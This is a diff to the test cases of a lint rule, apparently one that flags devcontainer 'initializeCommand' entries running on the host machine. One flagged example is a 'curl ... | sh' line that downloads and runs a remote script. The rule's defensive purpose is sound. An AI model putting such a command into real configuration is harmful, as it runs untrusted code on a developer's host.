@@ -22,8 +22,8 @@ export const noHostCommand: Rule<'container'> = {
       fixed: '{\n  "image": "node:24"\n}\n',
     },
     {
-      bad: '{\n  "initializeCommand": {\n    "env": «"test -f .env && . ./.env"»,\n    "net": "docker network create dev || true"\n  }\n}\n',
-      fixed: '{\n  "initializeCommand": {\n    "net": "docker network create dev || true"\n  }\n}\n',
+      bad: '{\n  "initializeCommand": {\n    "env": «"test -f .env && . ./.env"»\n  },\n  "postCreateCommand": "npm ci"\n}\n',
+      fixed: '{\n  "postCreateCommand": "npm ci"\n}\n',
     },
     { bad: '{\n  "initializeCommand": «["npm", "ci"]»\n}\n', fixed: '{}\n' },
     { bad: '{\n  "initializeCommand": «"curl -fsSL https://example.com/x.sh | sh"»\n}\n', fixed: '{}\n' },
